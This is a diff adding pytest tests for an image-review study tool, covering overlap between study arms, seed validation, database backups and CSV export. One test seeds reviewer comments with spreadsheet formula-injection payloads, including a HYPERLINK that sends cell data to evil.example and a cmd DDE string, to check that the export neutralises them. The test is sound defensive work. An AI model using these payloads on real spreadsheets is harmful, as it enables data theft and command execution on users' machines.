@@ -31,7 +31,7 @@ from review_data.session import (
     save_rating,
 )
 from review_data.stats import study_report
-from review_data.store import ReviewStore
+from review_data.store import ReviewStore, backup
 from review_data.study import StudyError, add_reviewer, close_study, create_study, get_study, reviewer_activity
 
 ANSWERS = {"call": "real", "realism": 5, "abcd_asymmetry": "yes", "abcd_border": "no", "abcd_colour": "unsure", "abcd_diameter": "yes"}
@@ -120,14 +120,40 @@ def test_bad_study_inputs_change_nothing(store, arms, study, tmp_path):
     assert sorted(p.name for p in (tmp_path / "studies").iterdir()) == [study]
 
 
-def test_the_same_manifest_as_both_arms_is_refused_naming_a_few_shared_images(store, arms, tmp_path):
-    ids = read_manifest(arms[0]).table["image_id"]
-    with pytest.raises(StudyError, match=r"96 images are in both arms") as refused:
-        create_study(store, tmp_path / "studies", "twice", arms[0], arms[0], n_per_arm=96)  # every image drawn twice
-    named = [image_id for image_id in ids if image_id in str(refused.value)]
-    assert 1 <= len(named) <= 5 and f"and {96 - len(named)} more" in str(refused.value)
+def test_arms_sharing_images_are_refused_naming_a_few_shared_images(store, arms, tmp_path):
+    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False)
+    fewer = arms[0].parent / "all-but-one.csv"  # another manifest, every image but one shared with the real arm
+    table.iloc[1:].to_csv(fewer, index=False)
+    with pytest.raises(StudyError, match=r"\d+ images are in both arms") as refused:
+        create_study(store, tmp_path / "studies", "twice", arms[0], fewer, n_per_arm=95)  # nearly every image drawn twice
+    shared = int(str(refused.value).split()[0])
+    named = [image_id for image_id in table["image_id"] if image_id in str(refused.value)]
+    assert shared > 90 and 1 <= len(named) <= 5 and f"and {shared - len(named)} more" in str(refused.value)
     assert "--" not in str(refused.value)  # in words, not command-line options
     assert not (tmp_path / "studies").exists()
+    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0
+
+
+def test_one_manifest_as_both_arms_is_refused_even_when_a_small_draw_would_not_overlap(store, arms, tmp_path):
+    """Two images per arm from 96 rarely overlap (seed 0 does not): before, such a study of one manifest was created."""
+    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False)
+    copy = tmp_path / "copy" / "manifest.csv"  # the same bytes in another folder, with the images at their old place
+    copy.parent.mkdir()
+    table.assign(image_root=str(arms[0].parent)).to_csv(copy, index=False)
+    reordered = arms[0].parent / "reordered.csv"
+    table.iloc[::-1].to_csv(reordered, index=False)
+    for synthetic, words in ((arms[0], "is given as both the real and the synthetic arm"), (copy, "list the same 96 images"),
+                             (reordered, "list the same 96 images")):
+        with pytest.raises(StudyError, match=words):
+            create_study(store, tmp_path / "studies", "self", arms[0], synthetic, n_per_arm=2, seed=0)
+    assert not (tmp_path / "studies").exists()
+    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0
+
+
+def test_a_seed_out_of_range_is_refused_in_words(store, arms, tmp_path):
+    for seed in (2**70, -1):
+        with pytest.raises(ValueError, match="the seed must be a whole number from 0 to 4,294,967,295"):
+            create_study(store, tmp_path / "studies", "seeded", *arms, n_per_arm=2, seed=seed)
     assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0
 
 
@@ -293,6 +319,40 @@ def pictures(store: ReviewStore, table: str, study_name: str) -> list[tuple[str,
     rows = store.db.execute(f"SELECT i.source, i.image_id FROM {table} i JOIN studies s ON s.id = i.study_id WHERE s.name = ?"
                             " ORDER BY i.source, i.image_id", [study_name])
     return [tuple(row) for row in rows]
+
+
+def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(store, study, tmp_path):
+    """A reviewer's comment is text in every spreadsheet, never a live formula; the summary says how many cells were changed."""
+    add_reviewer(store, study, "mallory", "password-m")
+    comments = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "-0.25", "fine"]
+    for position, comment in enumerate(comments):
+        image = item_at(store, study, "mallory", position).image_id
+        save_rating(store, study, "mallory", image, {**ANSWERS, "comment": comment}, 2.0)
+    files = export_study(store, study, tmp_path / "export")
+    exported = pd.read_csv(files[0], keep_default_na=False)
+    assert list(exported["comment"]) == ["'" + c for c in comments[:5]] + ["-0.25", "fine"]  # a number is no formula
+    raw = files[0].read_text()
+    assert "\n=" not in raw and ",=" not in raw and ',"=' not in raw
+    summary = pd.read_csv(files[2], keep_default_na=False)
+    row = summary[summary["metric"] == "formula_cells_neutralised"].iloc[0]
+    assert float(row["estimate"]) == 5 and "leading apostrophe" in row["note"]
+    assert ratings_table(store, study)["comment"].tolist()[:1] == [comments[0]]  # the database keeps what was typed
+
+
+def test_a_backup_taken_while_ratings_are_saved_holds_them_all_and_stands_alone(store, study, tmp_path):
+    add_reviewer(store, study, "bob", "password-b")
+    for position in range(3):
+        save_rating(store, study, "bob", item_at(store, study, "bob", position).image_id, ANSWERS, 1.0)  # still in the WAL
+    copy = backup(store, tmp_path / "review-backup.db")
+    assert (copy.studies, copy.ratings) == (1, 3) and not (tmp_path / "review-backup.db-wal").exists()
+    restored = ReviewStore(copy.path)
+    assert ratings_table(restored, study)["call"].tolist() == ["real"] * 3
+    with pytest.raises(FileExistsError, match="give the backup a new file name"):
+        backup(store, copy.path)
+    for live in (store.path, f"{store.path}-wal"):
+        with pytest.raises(ValueError, match="is the live database itself"):
+            backup(store, live)
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no partial file left
 
 
 def test_practice_images_are_drawn_apart_from_the_study_balanced_and_blinded(store, arms, practice_study, tmp_path):
